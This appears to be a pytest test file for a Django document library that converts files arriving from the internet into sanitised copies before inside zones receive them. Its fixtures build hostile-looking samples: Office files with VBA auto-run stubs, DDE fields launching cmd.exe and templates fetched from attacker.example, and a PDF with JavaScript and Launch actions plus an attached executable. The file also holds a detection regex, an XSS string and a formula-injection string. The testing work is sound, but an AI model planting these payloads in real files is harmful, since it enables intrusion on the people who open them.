"""What crosses from the internet into the zones inside is a copy without active parts, or nothing (A9)."""

import io
import re
import stat
import zipfile
from pathlib import Path
from typing import Any

import olefile
import openpyxl
import pikepdf
import pypdfium2
import pytest
from django.test import Client
from django.urls import reverse
from pikepdf import Array, Dictionary, Name

from madoguchi.library import blobs, copies, ingest
from madoguchi.library.models import Folder, Version
from tests.readers import files, pdf_files, sheet_files
from tests.readers.ole_writer import ole

from .conftest import AddDocument

pytestmark = [pytest.mark.django_db, pytest.mark.req("A9")]
ADDRESSES = {"internal": "10.1.2.3", "lgwan": "100.64.1.1", "internet": "203.0.113.5"}
ACTIVE = re.compile(
    rb"vbaProject|_VBA_PROJECT|oleObject|DDEAUTO|externalLink|attacker\.example/|/JavaScript|/JS\b|/OpenAction|/AA\b|"
    rb"/Launch|/EmbeddedFile|/URI|<script|<a |href=|src=|javascript:|PK\x03\x04|\xd0\xcf\x11\xe0",
    re.IGNORECASE,
)
LINK = "https://attacker.example/template.dotm"


@pytest.fixture(autouse=True)
def zones(settings):
    settings.ZONE_NETWORKS = settings.ZONE_NETWORKS | {"lgwan": ["100.64.0.0/10"]}


@pytest.fixture
def from_zone(make_user, client):
    """Return a client of a clerk in a zone."""
    user = make_user("tanaka")

    def in_zone(zone: str) -> Client:
        made = Client(REMOTE_ADDR=ADDRESSES[zone])
        made.force_login(user)
        return made

    return in_zone


def with_parts(path: Path, parts: dict[str, bytes], kind: tuple[str, str]) -> bytes:
    """Return an OOXML file with more parts and its main type replaced."""
    with zipfile.ZipFile(path) as old:
        whole = {name: old.read(name) for name in old.namelist()}
    types = whole["[Content_Types].xml"].decode()
    assert kind[0] in types
    extra = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
    whole["[Content_Types].xml"] = types.replace(*kind).replace("</Types>", extra).encode()
    return files.archive(path.with_suffix(".out"), whole | parts).read_bytes()


def docm(folder: Path) -> bytes:
    path = files.small_docx(folder / "a.docx")
    with zipfile.ZipFile(path) as old:
        document, relations = (
            old.read(f"word/{name}").decode() for name in ("document.xml", "_rels/document.xml.rels")
        )
    field = "<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText></w:r></w:p>"
    template = f'<Relationship Id="rX" Type="http://x/attachedTemplate" Target="{LINK}" TargetMode="External"/>'
    return with_parts(
        path,
        {
            "word/vbaProject.bin": ole({"VBA/dir": b"Sub AutoOpen()" * 400}),
            "word/embeddings/oleObject1.bin": ole({"\x01Ole10Native": b"MZ" * 3000}),
            "word/document.xml": document.replace("<w:sectPr", field + "<w:sectPr", 1).encode(),
            "word/_rels/document.xml.rels": relations.replace(
                "</Relationships>", f"{template}</Relationships>"
            ).encode(),
        },
        (
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            "application/vnd.ms-word.document.macroEnabled.main+xml",
        ),
    )


def xlsm(folder: Path) -> bytes:
    path = files.small_xlsx(folder / "a.xlsx")
    link = f'<externalLink xmlns="http://x"><ddeLink ddeService="cmd" ddeTopic="/c calc {LINK}"/></externalLink>'
    parts = {
        "xl/vbaProject.bin": ole({"VBA/dir": b"Sub Workbook_Open()" * 400}),
        "xl/externalLinks/externalLink1.xml": link.encode(),
    }
    main = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    return with_parts(path, parts, (main, "application/vnd.ms-excel.sheet.macroEnabled.main+xml"))


def xls(_: Path) -> bytes:
    made = sheet_files.xls({"一覧": (0, sheet_files.word(0, 0, "市税") + sheet_files.number(0, 1, 1200))})
    book = olefile.OleFileIO(io.BytesIO(made)).openstream("Workbook").read()
    return ole({"Workbook": book, "_VBA_PROJECT_CUR/VBA/dir": b"Sub Auto_Open()" * 400})


def pdf(folder: Path) -> bytes:
    def act(document: pikepdf.Pdf) -> None:
        run = Dictionary(S=Name.JavaScript, JS="app.launchURL('https://attacker.example/js')")
        document.Root.OpenAction = run
        document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["start", run])))
        document.pages[0].AA = Dictionary(O=Dictionary(S=Name.Launch, F="cmd.exe"))
        document.attachments["x.exe"] = b"MZ" * 100

    return pdf_files.pdf(folder / "a.pdf", [pdf_files.Page().text(70, 80, "ふつうの本文です。")], act).read_bytes()


def saved(client: Client, version: Version) -> tuple[str, bytes]:
    """What a click on the way to save gives: the name in its header, and the bytes."""
    response: Any = client.get(reverse("download", args=[version.document_id, version.number]))
    assert response.status_code == 200
    return response["Content-Disposition"].rsplit(".", 1)[-1], b"".join(response.streaming_content)


def test_the_fixtures_are_active(tmp_path):
    for make in (docm, xlsm, xls, pdf):
        assert ACTIVE.search(make(tmp_path))


@pytest.mark.parametrize("zone", ["lgwan", "internal"])
@pytest.mark.parametrize(
    ("make", "name", "suffix", "words"),
    [
        (docm, "申請.docm", "html", "手数料に関し"),
        (xlsm, "予算.xlsm", "html", "地方交付税"),
        (xls, "予算.xls", "html", "市税"),
        (pdf, "通知.pdf", "pdf", ""),
    ],
)
def test_active_files_arrive_without_active_parts(
    zone, make, name, suffix, words, tmp_path, shelf, add_document, from_zone
):
    version = add_document(shelf, make(tmp_path), name, zone="internet")
    assert version.status == "ready", version.reason
    got, content = saved(from_zone(zone), version)
    assert got == suffix
    assert not ACTIVE.search(re.sub(rb"stream\n.*?\nendstream", b"", content, flags=re.DOTALL))
    assert words in content.decode(errors="replace")
    page = from_zone(zone).get(reverse("document", args=[version.document_id])).content.decode()
    assert "インターネット側から届いた文書のため" in page
    assert "無害化した写しを保存" in page


def test_pages_become_a_pdf_of_pictures_that_reads_like_the_file(shelf, add_document, from_zone, pdf):
    version = add_document(shelf, pdf, "条例.pdf", zone="internet")
    _, content = saved(from_zone("lgwan"), version)
    copy, original = pypdfium2.PdfDocument(content), pypdfium2.PdfDocument(pdf)
    assert len(copy) == len(original) == version.pages
    assert [round(side) for side in copy[0].get_size()] == [round(side) for side in original[0].get_size()]
    assert [each.type for each in copy[0].get_objects()] == [pypdfium2.raw.FPDF_PAGEOBJ_IMAGE]
    assert copy[0].get_textpage().get_text_range() == ""
    # Drawn again the copy looks like the original.
    pictures = [document[0].render(scale=1).to_pil().convert("L").resize((60, 80)) for document in (copy, original)]
    differences = [abs(a - b) for a, b in zip(*(picture.tobytes() for picture in pictures), strict=True)]
    assert sum(differences) / len(differences) < 6
    with pikepdf.open(io.BytesIO(content)) as whole:
        assert (len(whole.pages), whole.get_warnings()) == (version.pages, [])


def test_a_document_of_more_pages_than_the_limit_is_given_as_text(settings, shelf, add_document, from_zone, pdf):
    settings.COPY_MAX_PAGES = 1
    suffix, content = saved(from_zone("lgwan"), add_document(shelf, pdf, "条例.pdf", zone="internet"))
    assert suffix == "html"
    assert "手数料" in content.decode()


def test_within_the_internet_zone_the_file_is_the_file(shelf, add_document, from_zone, tmp_path, office):
    from madoguchi.library.folders import folder_of_path

    public = folder_of_path(office, "公開", create=True, readers=["staff"], classification=1)
    content = pdf(tmp_path)
    version = add_document(public, content, "通知.pdf", zone="internet", classification=1)
    assert saved(from_zone("internet"), version) == ("pdf", content)


def test_what_came_from_inside_is_given_as_it_came(shelf, add_document, from_zone, tmp_path):
    content = pdf(tmp_path)
    version = add_document(shelf, content, "通知.pdf")
    assert (version.zone, version.copy) == ("internal", None)
    assert saved(from_zone("lgwan"), version) == ("pdf", content)


def test_an_upload_remembers_the_zone_it_came_from(shelf: Folder, from_zone):
    for zone in ("internal", "lgwan"):
        from_zone(zone).post(
            reverse("upload", args=[shelf.pk]),
            {"files": io.BytesIO(zone.encode()), "classification": "2", "clash": "rename"},
        )
    assert sorted(Version.objects.values_list("zone", flat=True)) == ["internal", "lgwan"]


def test_files_inside_a_mail_or_archive_come_from_where_it_came(shelf, add_document, from_zone, tmp_path):
    packed = files.archive(tmp_path / "a.zip", {"予算.xlsm": xlsm(tmp_path)}).read_bytes()
    outer = add_document(shelf, packed, "一式.zip", zone="internet")
    inner = outer.document.children.get().versions.get()
    assert ingest.ingest(str(inner.pk)) == "ready"
    inner.refresh_from_db()
    assert inner.zone == "internet"
    assert not ACTIVE.search(saved(from_zone("lgwan"), inner)[1])


def test_without_a_copy_nothing_is_given_and_the_page_says_so(shelf, add_document, from_zone):
    version = add_document(shelf, b"\x00\x01\x02" * 500, "道具.bin", zone="internet")
    assert (version.status, version.copy) == ("unsupported", None)
    client = from_zone("lgwan")
    response = client.get(reverse("download", args=[version.document_id, 1]))
    assert response.status_code == 302
    page = client.get(response["Location"]).content.decode()
    assert "無害化した写しを作れないため、この端末には保存できません" in page
    assert reverse("download", args=[version.document_id, 1]) not in page


@pytest.fixture
def tool(settings, tmp_path):
    """Make a shell script the office's 無害化 tool."""

    def set_up(script: str) -> None:
        program = tmp_path / "tool"
        program.write_text(f"#!/bin/sh\n{script}\n")
        program.chmod(program.stat().st_mode | stat.S_IXUSR)
        settings.SANITISER = [str(program)]

    return set_up


def test_the_offices_own_tool_makes_the_copy_under_the_files_name(tool, shelf, add_document, from_zone):
    tool("sed 's/EVIL/mild/g'")
    version = add_document(shelf, "手引き EVIL です。", "手引き.txt", zone="internet")
    suffix, content = saved(from_zone("lgwan"), version)
    assert (suffix, content.decode(), version.copied_by) == ("txt", "手引き mild です。", "tool")
    assert version.copy.sha256 != version.blob.sha256


@pytest.mark.parametrize("script", ["exit 1", "exit 0", "kill -9 $$", "yes かさばる", "sleep 600"])
def test_when_the_tool_fails_the_copy_is_built_here(script, tool, settings, shelf, add_document, from_zone):
    settings.SANITISER_SECONDS = 1 if script.startswith("sleep") else 60
    settings.UPLOAD_MAX_MB = 1
    tool(script)
    version = add_document(
        shelf, "手引き <script>alert(1)</script> =cmd|'/c calc'!A1 です。", "手引き.txt", zone="internet"
    )
    suffix, content = saved(from_zone("lgwan"), version)
    assert (suffix, version.copied_by) == ("html", "text")
    assert b"<script" not in content
    assert "手引き &lt;script&gt;" in content.decode()


def test_a_copy_is_looked_at_by_the_scanner_as_any_file(tool, settings, shelf, add_document, tmp_path):
    tool("echo FROM-THE-TOOL")
    scanner = tmp_path / "scanner"
    scanner.write_text("#!/bin/sh\ngrep -q FROM-THE-TOOL && { echo 'stream: Bad.Tool FOUND'; exit 1; }\nexit 0\n")
    scanner.chmod(0o700)
    settings.SCANNER = [str(scanner)]
    version = add_document(shelf, "手引きです。", "手引き.txt", zone="internet")
    assert (version.status, version.copy.verdict) == ("ready", "found")
    with pytest.raises(blobs.Held):
        copies.given(version, "lgwan")


def test_a_correction_is_in_the_copy(shelf: Folder, add_document: AddDocument, from_zone, make_user):
    from madoguchi.library.models import Correction
    from madoguchi.library.readings import blocks_as_read

    version = add_document(shelf, "住民票は三百円です。", "手引き.txt", zone="internet")
    block = blocks_as_read(version)[0]
    Correction.objects.create(
        tenant=version.tenant, blob=version.blob, block=0, read=block.text, text="住民票は300円です。"
    )
    assert ingest.recut(str(version.pk)) == "ready"
    assert "住民票は300円です。" in saved(from_zone("lgwan"), version)[1].decode()


def test_what_nobody_sees_who_opens_the_file_is_not_in_the_copy(shelf, add_document, from_zone, tmp_path):
    book = openpyxl.Workbook()
    book.create_sheet("一覧").append(["市税", 1200])
    book.create_sheet("隠し").append(["ひみつのかなりあ", 1])
    book["隠し"].sheet_state = "hidden"
    book.save(tmp_path / "a.xlsx")
    version = add_document(shelf, (tmp_path / "a.xlsx").read_bytes(), "予算.xlsx", zone="internet")
    content = saved(from_zone("lgwan"), version)[1].decode()
    assert "市税" in content
    assert "かなりあ" not in content
